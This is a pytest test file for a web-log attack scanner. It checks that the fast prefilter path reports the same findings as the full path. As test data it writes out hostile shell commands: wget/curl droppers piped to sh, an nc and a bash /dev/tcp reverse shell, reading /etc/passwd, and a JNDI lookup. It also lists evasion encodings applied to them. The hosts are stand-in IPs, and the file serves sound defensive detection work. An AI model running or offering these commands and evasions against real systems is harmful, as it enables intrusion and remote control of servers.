"""The fast path (chunk grammar + prefilter) loses nothing: exactly the findings and the line
accounting of the full path, on the sample logs, the corpus and generated evasions."""

from __future__ import annotations

import base64

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import CORPUS, REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
from dropscan.detect.decode import MAX_FIELD
from dropscan.detect.prefilter import LONG_RUN, long_lines
from dropscan.formats.logformat import LogFormat, compile_format
from dropscan.sources.files import Source, is_log_like, open_blocks

COMBINED = compile_format("combined")


def _compare(fast, full, chunk: bytes, fmt=COMBINED):
    a = fast.scan_chunk(chunk, fmt, log_file="x")
    b = full.scan_chunk(chunk, fmt, log_file="x")
    assert (a.lines, a.records, a.rejected) == (b.lines, b.records, b.rejected)
    assert [f.to_record() for f in a.findings] == [f.to_record() for f in b.findings]
    return b


def test_sample_logs(fast_scanner, full_scanner):
    for p in SAMPLE_LOGS.iterdir():
        if not is_log_like(p.name):  # kern.log: the firewall-log sample
            continue
        data = b"".join(open_blocks(Source(str(p))))
        fmt = compile_format("vhost_combined" if "vhost" in p.name else "combined")
        res = _compare(fast_scanner, full_scanner, data, fmt)
        assert res.findings or "vhost" in p.name


def test_corpus(fast_scanner, full_scanner):
    lines = []
    for case in corpus_cases():
        if case["kind"] == "access_log_line":
            lines.append(case["text"].encode("utf-8", "surrogateescape"))
        elif case.get("log_line"):
            lines.append(case["log_line"].encode("utf-8", "surrogateescape"))
        else:
            lines.append(combined_line(case["text"]).rstrip(b"\n"))
            lines.append(combined_line("/", ua=case["text"]).rstrip(b"\n"))
    chunk = b"\n".join(ln.replace(b"\n", b" ") for ln in lines) + b"\n"
    res = _compare(fast_scanner, full_scanner, chunk)
    assert len(res.findings) > 1000


def test_real_lines_and_junk(fast_scanner, full_scanner):
    chunk = b"\n".join([*REAL_APACHE_LINES, b"junk", b"\xff\xfe", b""]) + b"\n"
    _compare(fast_scanner, full_scanner, chunk)


# Lines the fast path used to skip while the full path found something (the first found by
# tests/test_fuzz.py): quotes that the cmd view deletes where no quote marker looked.
UNQUOTED_HEADER = LogFormat('%h %l %u %t "%r" %>s %b %{X-Cmd}i')
PREFIX = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 '


@pytest.mark.parametrize(
    ("fmt", "line", "rule"),
    [
        # not a record (a vhost prefix under combined): its raw text holds the field quotes
        (COMBINED, b"www.example.com:80 " + PREFIX + b'";" "bash -c "', "rce.shell-command"),
        # raw double quotes inside an unquoted field (a server that does not escape them)
        (UNQUOTED_HEADER, PREFIX + b';w""get%20http://203.0.113.9/x', "dropper.wget"),
        # an encoded NUL, which the url view deletes (issue 10)
        (
            COMBINED,
            b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET /x?a=1|wg%00et%20http://203.0.113.9/x.sh '
            b'HTTP/1.1" 404 1 "-" "-"',
            "dropper.wget",
        ),
        # a raw vertical tab, which the cmd view makes a space
        (UNQUOTED_HEADER, PREFIX + b";wget\x0bhttp://203.0.113.9/x", "dropper.wget"),
    ],
)
def test_quotes_and_spaces_the_cmd_view_removes_reach_the_fast_path(fast_scanner, full_scanner, fmt, line, rule):
    res = _compare(fast_scanner, full_scanner, line + b"\n", fmt)
    assert [f.rule_ids[0] for f in res.findings] == [rule]


# "%" is a keyword character (the Windows variables of SYS_PATH) that benign URLs encode ("50%25
# off"): its %25 form is a keyword alternative, not a marker that passes every such line.
@pytest.mark.parametrize(
    "target",
    [
        b"/x?c=type%20%25systemroot%25/win.ini",
        b"/x?c=dir%20%25WINDIR%25",
        b"/x?c=x|dir%20%25temp%25",
        b"/x?c=dir%20%windir%25",
        b"/x?c=dir%20%25windir%",
    ],
)
def test_encoded_percent_of_a_keyword_reaches_the_fast_path(fast_scanner, full_scanner, target):
    line = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET ' + target + b' HTTP/1.1" 404 1 "-" "-"\n'
    res = _compare(fast_scanner, full_scanner, line)
    assert [f.rule_ids[0] for f in res.findings] == ["rce.shell-command"]


# A field is cut at MAX_FIELD characters, and one byte as logged reads as at most four (an
# undecodable byte: \\xff): a field of MAX_FIELD / 4 + 1 such bytes is the shortest that is cut.
# It holds no keyword and no marker, so only the prefilter's long-line and long-field checks pass
# it; the fast path must report it unscanned as the full path does (and the field just short of
# it not at all), alone in its chunk or among ordinary lines.
@pytest.mark.parametrize(("size", "cut"), [(MAX_FIELD // 4, False), (MAX_FIELD // 4 + 1, True)])
def test_the_shortest_field_that_is_cut_reaches_the_fast_path(fast_scanner, full_scanner, size, cut):
    head = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "'
    line = head + b"\xff" * size + b'"\n'
    ordinary = combined_line("/index.html")
    for chunk in (line, ordinary + line + ordinary):
        a = fast_scanner.scan_chunk(chunk, COMBINED, log_file="x")
        res = _compare(fast_scanner, full_scanner, chunk)
        assert a.unscanned == res.unscanned == cut
        assert [f.rule_ids for f in res.findings] == ([["unscanned.field-cut"]] if cut else [])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.integers(0, 12), max_size=12), st.integers(1, 8), st.booleans())
def test_long_lines_are_the_lines_of_run_bytes_or_more(lengths, run, final_newline):
    chunk = b"\n".join(b"x" * n for n in lengths) + (b"\n" if final_newline and lengths else b"")
    starts = [sum(n + 1 for n in lengths[:i]) for i in range(len(lengths))]
    assert long_lines(chunk, run) == [s for s, n in zip(starts, lengths, strict=True) if n >= run]


def test_a_long_line_is_one_candidate_among_the_others(fast_scanner):
    """Candidates are line starts in order, each once, whether a line is long, holds keywords, or both."""
    long_attack = combined_line("/?c=;wget%20http://203.0.113.9/x&pad=" + "a" * LONG_RUN)
    lines = [combined_line("/"), long_attack, combined_line("/?c=;id"), combined_line("/" + "b" * LONG_RUN)]
    chunk = b"".join(lines)
    starts = [sum(map(len, lines[:i])) for i in range(len(lines))]
    assert fast_scanner.prefilter(COMBINED).candidates(chunk) == starts[1:]


def test_benign_encoded_percent_is_not_a_candidate(fast_scanner):
    assert not fast_scanner.prefilter(COMBINED).candidates(combined_line("/sale?d=50%25+off"))


# --- generated evasions: the prefilter must pass every line the full path finds something in ---
BASES = [
    "wget http://198.51.100.1/x.sh",
    "curl -s 198.51.100.1:8080/x|sh",
    "nc -e /bin/sh 198.51.100.1 4444",
    "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
    "cat /etc/passwd",
    "id",
    "whoami",
    "uname -a",
    "ping -c 3 198.51.100.1",
    "${jndi:ldap://198.51.100.1/a}",
    "system('id')",
    "__import__('os').system('id')",
    "for %a in (x) do calc",
]
SEPARATORS = [";", "|", "||", "&&", "& ", "\n", "`", "$(", "; ", "| "]


def _quote_inside(word: str, q: str) -> str:
    return q.join(word) if len(word) > 1 else word


TRANSFORMS = {
    "pct": lambda s: "".join(f"%{b:02x}" for b in s.encode()),
    "pct_upper": lambda s: "".join(f"%{b:02X}" for b in s.encode()),
    "pct_u": lambda s: "".join(f"%u{ord(c):04x}" for c in s),
    "entity": lambda s: "".join(f"&#{ord(c)};" for c in s),
    "json_u": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
    "squote": lambda s: " ".join(_quote_inside(w, "'") for w in s.split(" ")),
    "dquote": lambda s: " ".join(_quote_inside(w, '"') for w in s.split(" ")),
    "backslash": lambda s: " ".join(_quote_inside(w, "\\") for w in s.split(" ")),
    "ifs": lambda s: s.replace(" ", "${IFS}"),
    "ifs9": lambda s: s.replace(" ", "$IFS$9"),
    "plus": lambda s: s.replace(" ", "+"),
    "tab": lambda s: s.replace(" ", "\t"),
    "brace": lambda s: "{" + s.replace(" ", ",") + "}",
    "upper": str.upper,
    "b64": lambda s: "echo " + base64.b64encode(s.encode()).decode() + " | base64 -d | sh",
    "ansi": lambda s: "$'" + "".join(f"\\x{ord(c):02x}" for c in s) + "'",
    "empty_expansion": lambda s: s.replace("a", "a$@").replace("i", "i``"),
}


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    base=st.sampled_from(BASES),
    sep=st.sampled_from(SEPARATORS),
    chain=st.lists(st.sampled_from(sorted(TRANSFORMS)), max_size=3),
    where=st.sampled_from(["target", "path", "ua", "referer"]),
)
def test_generated_evasions_pass_the_prefilter(fast_scanner, full_scanner, base, sep, chain, where):
    text = sep + base
    for name in chain:
        text = TRANSFORMS[name](text)
    if where == "target":
        line = combined_line("/x.php?c=" + text.replace(" ", "%20"))
    elif where == "path":
        line = combined_line("/cgi-bin/" + text.replace(" ", "%20"))
    elif where == "ua":
        line = combined_line("/", ua=text)
    else:
        line = combined_line("/", referer=text)
    full, _ = full_scanner.scan_line(line.rstrip(b"\n"), COMBINED)
    if full is not None:
        assert fast_scanner.prefilter(COMBINED).candidates(line), (text, full.rule_ids)
    _compare(fast_scanner, full_scanner, line)


def test_prefilter_passes_few_benign_lines(fast_scanner):
    """Keywords must stay specific: on real benign traffic the fast path parses few lines."""
    log = CORPUS / "elastic-apache-logs" / "apache_logs"
    if not log.is_file():
        pytest.skip("elastic-apache-logs not in the corpus")
    data = log.read_bytes()
    assert len(fast_scanner.prefilter(COMBINED).candidates(data)) / data.count(b"\n") < 0.01
